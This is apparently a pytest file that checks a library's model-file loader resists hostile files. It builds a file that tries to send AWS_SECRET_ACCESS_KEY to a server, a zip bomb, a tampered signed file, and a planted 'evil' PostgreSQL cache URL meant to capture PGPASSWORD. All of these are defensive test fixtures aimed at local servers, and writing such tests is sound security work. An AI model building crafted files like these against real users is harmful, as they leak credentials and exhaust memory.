"""A model file is input from whoever wrote it (#38): it never chooses where a
key goes, it cannot exhaust memory, a changed signed file is refused, and a
malformed description is one line, exit status 2."""

import json
import zipfile

import pytest

from sklearn_llmconf import _archive, cli
from sklearn_llmconf.cli import _common
from sklearn_llmconf.persistence import (
    ModelFileError,
    UnconfirmedBackendError,
    load_model,
)
from sklearn_llmconf.testing import KeywordBackend, _fault_server
from tests._model_files import (
    edit_json,
    fit_keyword_model,
    point_at_server,
    rezip,
    small_csv,
)
from tests.test_cli_workflow import files  # noqa: F401 (fixture)

SECRET = "AKIA-aws-secret-8d2e4f"


@pytest.fixture
def keyword_model(monkeypatch):
    monkeypatch.setattr(_common, "_local_backend", lambda path: KeywordBackend())
    monkeypatch.delenv(_archive.KEY_ENV, raising=False)
    monkeypatch.delenv(_common.BASE_URL_ENV, raising=False)
    monkeypatch.delenv(_common.KEY_VARIABLE_ENV, raising=False)


@pytest.fixture
def logged(fault_server, monkeypatch):
    """The fault server, logging every request of any method with its headers."""
    def any_method(handler):
        with handler.server.lock:
            handler.server.requests.append(
                {"path": handler.path,
                 "headers": {k.lower(): v for k, v in handler.headers.items()}})
        handler.send_error(404)

    for method in ("do_GET", "do_PUT", "do_DELETE", "do_HEAD"):
        monkeypatch.setattr(_fault_server._Handler, method, any_method,
                            raising=False)
    return fault_server


def one_line(capsys, argv, status=2):
    capsys.readouterr()  # what came before
    assert cli.main(argv) == status
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1, err
    return err[0]


@pytest.fixture
def exfil(keyword_model, files, logged, monkeypatch):  # noqa: F811
    """The issue's file: re-zipped to send AWS_SECRET_ACCESS_KEY to a server."""
    tmp, lab, _ = files
    model = fit_keyword_model(tmp, lab)
    bad = rezip(model, tmp / "exfil.skops",
                point_at_server(logged.base_url, "AWS_SECRET_ACCESS_KEY"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    return tmp, lab, bad


def test_predict_and_report_send_nothing_to_a_server_the_file_names(exfil, logged,
                                                                    capsys):
    tmp, lab, bad = exfil
    new = small_csv(tmp)
    line = one_line(capsys, ["predict", bad, new, "-o", str(tmp / "d.csv")])
    assert (f"asks to send requests to '{logged.base_url}' and to send the key in "
            "the environment variable 'AWS_SECRET_ACCESS_KEY'; nothing was sent"
            ) in line
    assert "--base-url URL and --api-key-env VAR" in line
    line = one_line(capsys, ["report", bad, lab, "-o", str(tmp / "r.html")])
    assert "'AWS_SECRET_ACCESS_KEY'; nothing was sent" in line
    # only the server named by the user counts: another one leaves the key variable
    # unconfirmed
    line = one_line(capsys, ["predict", bad, new, "-o", str(tmp / "d.csv"),
                             "--base-url", logged.base_url])
    assert "send the key in the environment variable 'AWS_SECRET_ACCESS_KEY'" in line
    assert "send requests to" not in line
    assert logged.requests == [] and logged.arrivals == []
    assert not (tmp / "d.csv").exists() and not (tmp / "r.html").exists()
    # the library refuses the same way
    with pytest.raises(UnconfirmedBackendError) as info:
        load_model(bad)
    assert info.value.asks == {"base_url": logged.base_url,
                               "api_key_env": "AWS_SECRET_ACCESS_KEY"}
    assert logged.requests == []


@pytest.mark.parametrize("how", ["flags", "environment"])
def test_a_server_the_user_names_gets_the_key_the_user_names(exfil, logged,
                                                            monkeypatch, how):
    tmp, _, bad = exfil
    monkeypatch.setenv("MY_KEY", "sk-mine-0123")
    argv = ["predict", bad, small_csv(tmp), "-o", str(tmp / "d.csv"), "--quiet"]
    if how == "flags":
        argv += ["--base-url", logged.base_url, "--api-key-env", "MY_KEY"]
    else:
        monkeypatch.setenv(_common.BASE_URL_ENV, logged.base_url)
        monkeypatch.setenv(_common.KEY_VARIABLE_ENV, "MY_KEY")
    assert cli.main(argv) in (0, 1)
    sent = {r["headers"].get("authorization") for r in logged.requests}
    assert sent == {"Bearer sk-mine-0123"}  # the user's choice, never the file's
    assert (tmp / "d.csv").exists()


def test_no_key_when_the_user_says_so(exfil, logged):
    tmp, _, bad = exfil
    assert cli.main(["predict", bad, small_csv(tmp), "-o", str(tmp / "d.csv"),
                     "--quiet", "--base-url", logged.base_url,
                     "--no-api-key"]) in (0, 1)
    assert logged.requests
    assert {r["headers"].get("authorization") for r in logged.requests} == {
        "Bearer EMPTY"}


def test_server_flags_on_a_local_model_file_are_refused(keyword_model, files,  # noqa: F811
                                                        capsys):
    tmp, lab, new = files
    model = fit_keyword_model(tmp, lab)
    line = one_line(capsys, ["predict", model, new, "-o", str(tmp / "d.csv"),
                             "--api-key-env", "AWS_SECRET_ACCESS_KEY"])
    assert line.endswith("--api-key-env: the model file's backend is "
                         "'KeywordBackend', not a server.")


# -- signature ------------------------------------------------------------------
def test_signed_files_verify_and_any_change_is_refused(keyword_model, files,  # noqa: F811
                                                       monkeypatch, capsys):
    tmp, lab, new = files
    unsigned = fit_keyword_model(tmp, lab, "unsigned.skops")
    assert "not signed: set SKLEARN_LLMCONF_MODEL_KEY to sign" in \
        capsys.readouterr().out
    assert load_model(unsigned)[2]["signature"] == (
        "not checked (SKLEARN_LLMCONF_MODEL_KEY is not set)")
    monkeypatch.setenv(_archive.KEY_ENV, "team-key-1")
    signed = fit_keyword_model(tmp, lab, "signed.skops")
    out = capsys.readouterr()
    assert "signed with SKLEARN_LLMCONF_MODEL_KEY" in out.out
    assert "team-key-1" not in out.out + out.err
    with zipfile.ZipFile(signed) as z:
        assert not any(b"team-key-1" in z.read(n) for n in z.namelist())
    assert load_model(signed)[2]["signature"] == (
        "verified with SKLEARN_LLMCONF_MODEL_KEY")
    assert cli.main(["predict", signed, new, "-o", str(tmp / "d.csv"),
                     "--quiet"]) == 0
    assert capsys.readouterr().err.strip().endswith(
        "Model file signature: verified with SKLEARN_LLMCONF_MODEL_KEY.")
    # re-zipped with one value changed (every zip CRC valid)
    changed = rezip(signed, tmp / "changed.skops",
                    edit_json(lambda d: d["certificate"].update(delta=0.5)))
    line = one_line(capsys, ["predict", changed, new, "-o", str(tmp / "d.csv")])
    assert line.endswith("its signature does not match SKLEARN_LLMCONF_MODEL_KEY: "
                         "the file was changed after it was written, or signed "
                         "with another key.")
    with pytest.raises(ModelFileError, match="is not signed, and "
                                             "SKLEARN_LLMCONF_MODEL_KEY is set"):
        load_model(unsigned)
    monkeypatch.setenv(_archive.KEY_ENV, "another-key")
    with pytest.raises(ModelFileError, match="signature does not match"):
        load_model(signed)


# -- limits -----------------------------------------------------------------------
def test_a_zip_bomb_is_refused_before_anything_is_inflated(keyword_model, files,  # noqa: F811
                                                           monkeypatch, capsys):
    tmp, lab, new = files
    model = fit_keyword_model(tmp, lab)
    bomb = tmp / "bomb.skops"
    with zipfile.ZipFile(model) as z:
        entries = {n: z.read(n) for n in z.namelist()}
    schema = entries.pop("schema.json")
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
        # schema.json padded with 160 MiB of spaces: valid JSON, ~160 kB
        # packed, over the 128 MiB limit (each MiB costs deflating it here)
        with z.open("schema.json", "w", force_zip64=True) as f:
            f.write(schema[:-1])
            block = b" " * 2**20
            for _ in range(160):
                f.write(block)
            f.write(schema[-1:])
    assert bomb.stat().st_size < 2**20

    def no_inflating(*args, **kwargs):
        raise AssertionError("an entry was inflated")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_inflating)
    line = one_line(capsys, ["predict", str(bomb), new, "-o", str(tmp / "d.csv")])
    assert line.endswith("is refused: its entry 'schema.json' would inflate to "
                         "160.1 MiB, over the limit of 128.0 MiB.")


def test_too_many_entries_or_bytes_are_refused(tmp_path, monkeypatch):
    many = tmp_path / "many.skops"
    with zipfile.ZipFile(many, "w") as z:
        for i in range(_archive.MAX_ENTRIES + 1):
            z.writestr(f"{i}.npy", b"")
    with pytest.raises(ModelFileError, match="holds 10001 entries, over the limit "
                                             "of 10000"):
        load_model(many)
    monkeypatch.setattr(_archive, "MAX_TOTAL_BYTES", 2**20)
    big = tmp_path / "big.skops"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(3):
            z.writestr(f"{i}.npy", b"\0" * 400_000)
    with pytest.raises(ModelFileError, match="entries would inflate to 1.1 MiB, "
                                             "over the limit of 1.0 MiB"):
        load_model(big)


# -- malformed descriptions -------------------------------------------------------
def _set(path, value):
    def change(desc):
        *parents, last = path
        node = desc
        for p in parents:
            node = node[p]
        node[last] = value
    return change


def _drop(*path):
    def change(desc):
        *parents, last = path
        node = desc
        for p in parents:
            node = node[p]
        del node[last]
    return change


@pytest.mark.parametrize("edit, command, message", [
    (edit_json(_set(("backend", "params", "colour"), "red")), "predict",
     "the model file's backend KeywordBackend has no parameter 'colour'; its "
     "parameters are: fail_on, missing_on, strength."),
    (edit_json(_drop("certificate", "method")), "report",
     "the model file's description has no field certificate.method."),
    (edit_json(_drop("data",)), "predict",
     "the model file's description has no field data."),
    (lambda text: text[:-1], "report", "the model file's description is not "
     "valid JSON (Expecting ',' delimiter:"),
    (edit_json(_set(("certificate", "delta"), "0.05")), "report",
     "the model file's description field certificate.delta is str, not num."),
    (edit_json(_set(("certificate", "n_calibration"), "<b>9</b>")), "report",
     "the model file's description field certificate.n_calibration is str, not "
     "int."),
    (edit_json(_set(("certificate", "targets"), [1.5, 0.7])), "report",
     "the model file's certificate has target 1.5, outside (0, 1)."),
    (edit_json(_set(("classes",), ["ham"])), "predict",
     "the model file's description has not one label word per class."),
])
def test_malformed_descriptions_are_one_line(keyword_model, files, capsys,  # noqa: F811
                                             edit, command, message):
    tmp, lab, new = files
    model = fit_keyword_model(tmp, lab)
    capsys.readouterr()
    bad = rezip(model, tmp / "bad.skops", edit)
    argv = (["predict", bad, new, "-o", str(tmp / "d.csv")] if command == "predict"
            else ["report", bad, "-o", str(tmp / "r.html")])
    assert message in one_line(capsys, argv)


def test_description_text_survives_its_own_schema():
    # every field the schema names is in a description written by save_model
    from sklearn_llmconf._persistence import (
        DESCRIPTION_SCHEMA,
        validate_description,
    )
    from tests.test_persistence import fitted_router

    router = fitted_router()
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        from sklearn_llmconf.persistence import save_model

        desc = save_model(f"{d}/m.skops", router)
    assert validate_description(json.loads(json.dumps(desc))) == desc
    assert set(DESCRIPTION_SCHEMA) <= set(desc)


@pytest.mark.parametrize("model_path", ["/dev/zero", "/nowhere/model.gguf"])
def test_a_gguf_path_that_is_no_file_is_one_line(keyword_model, files, capsys,  # noqa: F811
                                                 model_path):
    tmp, lab, new = files
    model = fit_keyword_model(tmp, lab)

    def change(desc):
        desc["backend"] = {"class": "LlamaCppBackend",
                           "params": {"model_path": model_path}}
        desc["identity"] = {"backend": "LlamaCppBackend", "model_sha256": "0" * 64}

    bad = rezip(model, tmp / "gguf.skops", edit_json(change))
    line = one_line(capsys, ["predict", bad, new, "-o", str(tmp / "d.csv")])
    assert "the model file's backend cannot be used here (GGUF model file not " \
        f"found: {model_path}); a moved GGUF file can be given with --gguf PATH" \
        in line


def test_the_file_cannot_choose_the_cache_or_the_workers(tmp_path):
    # A cache URL in the file would receive the password libpq finds
    # (PGPASSWORD); n_jobs=10**6 would start a million workers.
    from sklearn_llmconf.persistence import save_model
    from tests.test_persistence import fitted_router

    path = tmp_path / "m.skops"
    save_model(path, fitted_router())
    with zipfile.ZipFile(path) as z:
        entries = {n: z.read(n) for n in z.namelist()}
    schema = json.loads(entries["schema.json"])
    found = []

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("cache", "n_jobs") and isinstance(value, dict):
                    value.update(content=json.dumps(
                        "postgresql://evil@127.0.0.1:9/db" if key == "cache"
                        else 10**6), is_json=True, __class__=(
                        "str" if key == "cache" else "int"),
                        __id__=len(found) + 1)  # not the memoised None
                    found.append(key)
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(schema)
    assert {"cache", "n_jobs"} <= set(found)
    entries["schema.json"] = json.dumps(schema).encode()
    bad = tmp_path / "bad.skops"
    with zipfile.ZipFile(bad, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
    router, _, _ = load_model(bad)
    for est in (router.estimator, router.estimator_):
        assert est.estimator.cache is None and est.estimator.n_jobs is None
